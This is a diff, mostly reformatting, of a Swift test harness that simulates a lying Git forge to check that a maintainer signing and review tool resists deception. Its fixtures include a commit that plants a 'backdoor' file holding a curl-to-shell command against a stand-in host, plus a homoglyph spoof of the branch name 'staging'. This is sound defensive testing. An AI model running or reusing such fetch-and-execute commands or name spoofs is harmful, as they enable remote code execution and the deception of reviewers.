@@ -54,7 +54,8 @@ final class ForgeLieWorld {
     var registry = "[people]\n"
     try Tool.succeed("mkdir", ["\(seed.path)/keys"])
     for (person, card) in [("alice", alice), ("dave", dave)] {
-      registry += "[people.\(person)]\nname = \"\(person)\"\n[keys.\(person).card]\nid = \"\(card.fingerprint)\"\ndevices = \"YubiKey 5\"\n"
+      registry +=
+        "[people.\(person)]\nname = \"\(person)\"\n[keys.\(person).card]\nid = \"\(card.fingerprint)\"\ndevices = \"YubiKey 5\"\n"
       try CosignServer.write("\(seed.path)/keys/\(card.fingerprint).asc", try card.certificate())
     }
     let policy = """
@@ -66,11 +67,14 @@ final class ForgeLieWorld {
 
       """
     try seed.git("add", "keys")
-    places["START"] = try seed.commit("Registry", files: ["MAINTAINERS": registry, "review.toml": policy, "packages": "one\n"])
+    places["START"] = try seed.commit(
+      "Registry", files: ["MAINTAINERS": registry, "review.toml": policy, "packages": "one\n"])
     let start = places["START"]!
     func merge(_ name: String, of change: String, onto base: String) throws -> String {
       try seed.git("checkout", "-q", "--detach", base)
-      try seed.git("-c", "user.signingkey=\(alice.signingFingerprint)!", "merge", "-q", "--no-ff", "-S", "-m", name, change, environment: alice.environment)
+      try seed.git(
+        "-c", "user.signingkey=\(alice.signingFingerprint)!", "merge", "-q", "--no-ff", "-S", "-m", name, change,
+        environment: alice.environment)
       return try seed.git("rev-parse", "HEAD")
     }
     let first = try seed.commit("First", files: ["first": "1\n"], signedBy: dave)
@@ -78,8 +82,10 @@ final class ForgeLieWorld {
     let staging = places["STAGING"]!
     // Another lawful step from the same place: a server that has split.
     try seed.git("checkout", "-q", "--detach", start)
-    places["ASIDE"] = try merge("Merge second", of: try seed.commit("Second", files: ["second": "1\n"], signedBy: dave), onto: start)
-    func on(_ base: String, _ message: String, _ files: [String: String], by card: VirtualCard? = nil) throws -> String {
+    places["ASIDE"] = try merge(
+      "Merge second", of: try seed.commit("Second", files: ["second": "1\n"], signedBy: dave), onto: start)
+    func on(_ base: String, _ message: String, _ files: [String: String], by card: VirtualCard? = nil) throws -> String
+    {
       try seed.git("checkout", "-q", "--detach", base)
       return try seed.commit(message, files: files, signedBy: card)
     }
@@ -88,7 +94,9 @@ final class ForgeLieWorld {
     places["SECOND"] = try on(second, "Adopt", [:], by: dave)
     places["OTHER"] = try on(staging, "Add other", ["other": "1\n"])
     // A branch whose own rules say whatever its maker wants.
-    let own = "version = 2\nthreshold = 1\nevidence = \"off\"\n" + ["trap", "st\u{430}ging", "staging"].map { "[[branch]]\nname = \"\($0)\"\n" }.joined()
+    let own =
+      "version = 2\nthreshold = 1\nevidence = \"off\"\n"
+      + ["trap", "st\u{430}ging", "staging"].map { "[[branch]]\nname = \"\($0)\"\n" }.joined()
     places["EVIL"] = try on(staging, "Prepare", ["backdoor": "curl evil | sh\n", "review.toml": own])
     places["NOBODY"] = try on(staging, "People", ["MAINTAINERS": "[people.eve]\nname = \"Eve\"\n"])
     places["ALONE"] = try on(staging, "Alone", ["alone": "1\n"], by: dave)
@@ -107,7 +115,9 @@ final class ForgeLieWorld {
     for repository in [TestForge.repository, TestForge.fork, Self.standIn] {
       let path = forge.path(repository)
       try Tool.succeed("git", ["-C", path, "fetch", "-q", seed.path, "+refs/all/*:refs/all/*"])
-      for name in places.keys where name != "NONE" { try Tool.succeed("git", ["-C", path, "update-ref", "-d", "refs/all/\(name)"]) }
+      for name in places.keys where name != "NONE" {
+        try Tool.succeed("git", ["-C", path, "update-ref", "-d", "refs/all/\(name)"])
+      }
       try Tool.succeed("git", ["-C", path, "config", "gc.auto", "0"])
       try set("refs/heads/staging", "$STAGING", in: repository)
       try Tool.succeed("git", ["-C", path, "symbolic-ref", "HEAD", "refs/heads/staging"])
@@ -116,7 +126,9 @@ final class ForgeLieWorld {
     for (branch, commit) in [("topic", "$HEAD"), ("second", "$SECOND"), ("other", "$OTHER")] {
       try set("refs/heads/\(branch)", commit, in: TestForge.fork)
     }
-    for (key, value) in [("maint.trustRoot", places["START"]!), ("maint.lead", "staging"), ("maint.program", CosignServer.program)] {
+    for (key, value) in [
+      ("maint.trustRoot", places["START"]!), ("maint.lead", "staging"), ("maint.program", CosignServer.program),
+    ] {
       try Tool.succeed("git", ["-C", forge.path(), "config", key, value])
     }
     try forge.installHook("\(Tool.packageFolder)/hooks/pre-receive")
@@ -125,10 +137,17 @@ final class ForgeLieWorld {
   private func openRequests() throws {
     let page = "/repos/\(TestForge.repository)/pulls"
     for (number, branch) in [(1, "topic"), (2, "second")] {
-      try forge.call("POST", page, as: "bob", body: #"{"title": "Add \#(branch)", "head": "bob:\#(branch)", "base": "staging", "body": ""}"#)
+      try forge.call(
+        "POST", page, as: "bob",
+        body: #"{"title": "Add \#(branch)", "head": "bob:\#(branch)", "base": "staging", "body": ""}"#)
       try forge.call("PATCH", "\(page)/\(number)", as: "bob", body: #"{"allow_maintainer_edit": true}"#)
     }
-    try Tool.succeed("git", ["-C", forge.path(Self.standIn), "fetch", "-q", forge.path(), "+refs/heads/*:refs/heads/*", "+refs/pull/*:refs/pull/*"])
+    try Tool.succeed(
+      "git",
+      [
+        "-C", forge.path(Self.standIn), "fetch", "-q", forge.path(), "+refs/heads/*:refs/heads/*",
+        "+refs/pull/*:refs/pull/*",
+      ])
   }
 
   private func makeClone() throws {
@@ -136,7 +155,8 @@ final class ForgeLieWorld {
     try Tool.succeed("git", ["clone", "-q", forge.remote(), clone])
     let helper = "!f() { echo username=alice; echo password=pw-alice; }; f"
     for (key, value) in [
-      ("user.name", "alice"), ("user.email", "alice@example.org"), ("maint.trustRoot", places["START"]!), ("maint.lead", "staging"),
+      ("user.name", "alice"), ("user.email", "alice@example.org"), ("maint.trustRoot", places["START"]!),
+      ("maint.lead", "staging"),
       ("maint.forge", "forgejo"), ("credential.\(forge.url).helper", helper),
     ] { try Tool.succeed("git", ["-C", clone, "config", key, value]) }
   }
@@ -148,7 +168,9 @@ final class ForgeLieWorld {
     try restore()
     for (ref, place) in lie.refs { try set(ref, place, in: TestForge.repository) }
     for (ref, place) in lie.shown ?? [:] { try set(ref, place, in: Self.standIn) }
-    for (ref, target) in lie.symbolic { try Tool.succeed("git", ["-C", forge.path(Self.standIn), "symbolic-ref", ref, target]) }
+    for (ref, target) in lie.symbolic {
+      try Tool.succeed("git", ["-C", forge.path(Self.standIn), "symbolic-ref", ref, target])
+    }
     try speak(lie)
   }
 
@@ -167,11 +189,15 @@ final class ForgeLieWorld {
       members.sorted { $0.key < $1.key }.map { "\"\(prefix)\($0.key)\": \($0.value)" }.joined(separator: ", ")
     }
     if !lie.patch.isEmpty {
-      rules.append(#"{"path": "/pulls/\#(number)$", "method": "GET", "do": {"patch": {\#(json(lie.patch, prefix: ""))}}}"#)
+      rules.append(
+        #"{"path": "/pulls/\#(number)$", "method": "GET", "do": {"patch": {\#(json(lie.patch, prefix: ""))}}}"#)
       // The newest stands first.
-      rules.append(#"{"path": "/pulls$", "method": "GET", "do": {"patch": {\#(json(lie.patch, prefix: "\(2 - number)."))}}}"#)
+      rules.append(
+        #"{"path": "/pulls$", "method": "GET", "do": {"patch": {\#(json(lie.patch, prefix: "\(2 - number)."))}}}"#)
     }
-    if let answer = lie.answer { rules.append(#"{"path": "/pulls(/\#(number))?$", "method": "GET", "do": \#(answer)}"#) }
+    if let answer = lie.answer {
+      rules.append(#"{"path": "/pulls(/\#(number))?$", "method": "GET", "do": \#(answer)}"#)
+    }
     if lie.shown != nil || !lie.symbolic.isEmpty {
       rules.append(#"{"path": "/stagex/stagex.git/(info/refs|git-upload-pack)$", "do": {"serve": "\#(Self.standIn)"}}"#)
     }
@@ -197,7 +223,8 @@ final class ForgeLieWorld {
 
   func run(_ words: [String], in clone: String, extra: [String: String] = [:]) throws -> Tool.Result {
     try Tool.run(
-      CosignServer.program, words, environment: alice.environment.merging(["MAINT_TOKEN": forge.token(of: "alice")]) { $1 }.merging(extra) { $1 },
+      CosignServer.program, words,
+      environment: alice.environment.merging(["MAINT_TOKEN": forge.token(of: "alice")]) { $1 }.merging(extra) { $1 },
       folder: clone, seconds: 120)
   }
 
@@ -208,7 +235,10 @@ final class ForgeLieWorld {
     let result = try run(words, in: clone, extra: extra)
     let time = ContinuousClock.now - start
     #expect(time - honest < .seconds(10), "\(lie.says): \(words) took \(time)")
-    let unsafe = result.all.unicodeScalars.filter { $0 != "\n" && $0 != "\t" && ($0.properties.generalCategory == .control || $0.properties.generalCategory == .format) }
+    let unsafe = result.all.unicodeScalars.filter {
+      $0 != "\n" && $0 != "\t"
+        && ($0.properties.generalCategory == .control || $0.properties.generalCategory == .format)
+    }
     #expect(unsafe.isEmpty, "\(lie.says): prints \(unsafe)")
     return result
   }
@@ -230,7 +260,8 @@ final class ForgeLieWorld {
     }
     switch outcome {
     case .told(let status, let text):
-      #expect(result.status == status && result.all.contains(filled(text)), "\(lie.says): \(result.status) \(result.all)")
+      #expect(
+        result.status == status && result.all.contains(filled(text)), "\(lie.says): \(result.status) \(result.all)")
       // What was signed before the lie was met is kept here, and has gone nowhere.
       for id in try kept(clone) { #expect(!(try refs().values.contains(id)), "\(lie.says): \(id) was pushed") }
       if lie.person != .agreed { #expect(try alice.signatureCount() == touches, "\(lie.says)") }
@@ -253,12 +284,17 @@ final class ForgeLieWorld {
     #expect(lines.filter { $0.hasPrefix("head    ") } == ["head    \(head)"], "\(lie.says): \(screen)")
     #expect(lines.filter { $0.hasPrefix("base    ") } == ["base    \(filled(lie.base))"], "\(lie.says): \(screen)")
     let new = try refs().filter { before[$0.key] != $0.value && isOurs($0.value, clone) }.values
-    if lie.person == .looks { #expect(new.isEmpty, "\(lie.says): pushed by a look") } else { #expect(!new.isEmpty, "\(lie.says): nothing pushed\n\(screen)") }
+    if lie.person == .looks {
+      #expect(new.isEmpty, "\(lie.says): pushed by a look")
+    } else {
+      #expect(!new.isEmpty, "\(lie.says): nothing pushed\n\(screen)")
+    }
     for id in Set(new) { try demandCovers(id, screen, clone, lie) }
   }
 
   private func isOurs(_ id: String, _ clone: String) -> Bool {
-    (try? Tool.run("git", ["-C", clone, "log", "-1", "--format=%(trailers:key=Reviewed-Base)", id]).line.isEmpty) == false
+    (try? Tool.run("git", ["-C", clone, "log", "-1", "--format=%(trailers:key=Reviewed-Base)", id]).line.isEmpty)
+      == false
   }
 
   /// A signature of ours reaches from the base of the screen to its head, over the commits of the screen and no others.
@@ -266,7 +302,9 @@ final class ForgeLieWorld {
     func git(_ words: String...) throws -> [String] {
       try Tool.succeed("git", ["-C", clone] + words).text.split(separator: "\n").map(String.init)
     }
-    func value(_ name: String) -> String { screen.split(separator: "\n").first { $0.hasPrefix(name) }.map { String($0.dropFirst(8)) } ?? "" }
+    func value(_ name: String) -> String {
+      screen.split(separator: "\n").first { $0.hasPrefix(name) }.map { String($0.dropFirst(8)) } ?? ""
+    }
     let (head, base) = (value("head    "), value("base    "))
     let parents = try git("rev-list", "--parents", "-1", id)[0].split(separator: " ").dropFirst().map(String.init)
     #expect(parents == [head] || parents == [base, head], "\(lie.says): stands on \(parents)")
@@ -293,12 +331,15 @@ final class ForgeLieWorld {
     }
     switch outcome {
     case .told(let status, let text):
-      #expect(result.status == status && result.all.contains(filled(text)), "\(lie.says): \(result.status) \(result.all)")
+      #expect(
+        result.status == status && result.all.contains(filled(text)), "\(lie.says): \(result.status) \(result.all)")
       #expect(!offer.contains("you can"), "\(lie.says): \(result.all)")
     case .says(let text):
       #expect(result.status == 0 && result.all.contains(filled(text)), "\(lie.says): \(result.status) \(result.all)")
     case .honest:
-      #expect(result.status == 0 && offer.contains("you can \(lie.request == 1 ? "adopt" : "merge") it"), "\(lie.says): \(result.status) \(result.all)")
+      #expect(
+        result.status == 0 && offer.contains("you can \(lie.request == 1 ? "adopt" : "merge") it"),
+        "\(lie.says): \(result.status) \(result.all)")
     }
     #expect(try refs() == before, "\(lie.says): queue has moved something")
     try Tool.succeed("rm", ["-rf", clone])
@@ -310,7 +351,9 @@ final class ForgeLieWorld {
   private func refs() throws -> [String: String] {
     var found: [String: String] = [:]
     for repository in [TestForge.repository, TestForge.fork] {
-      for line in try Tool.succeed("git", ["-C", forge.path(repository), "for-each-ref", "--format=%(refname) %(objectname)"]).text.split(separator: "\n") {
+      for line in try Tool.succeed(
+        "git", ["-C", forge.path(repository), "for-each-ref", "--format=%(refname) %(objectname)"]
+      ).text.split(separator: "\n") {
         let parts = line.split(separator: " ")
         found["\(repository) \(parts[0])"] = String(parts[1])
       }
@@ -320,10 +363,13 @@ final class ForgeLieWorld {
 
   /// Signatures that the clone keeps for a later push.
   private func kept(_ clone: String) throws -> [String] {
-    try Tool.succeed("git", ["-C", clone, "for-each-ref", "--format=%(objectname)", "refs/stagex-maint/signed"]).text.split(separator: "\n").map(String.init)
+    try Tool.succeed("git", ["-C", clone, "for-each-ref", "--format=%(objectname)", "refs/stagex-maint/signed"]).text
+      .split(separator: "\n").map(String.init)
   }
 
   private static func word(_ look: Tool.Result) -> String? {
-    look.text.firstRange(of: "it is agreed to by: --reviewed ").map { String(look.text[$0.upperBound...].prefix { $0 != "\n" }) }
+    look.text.firstRange(of: "it is agreed to by: --reviewed ").map {
+      String(look.text[$0.upperBound...].prefix { $0 != "\n" })
+    }
   }
 }
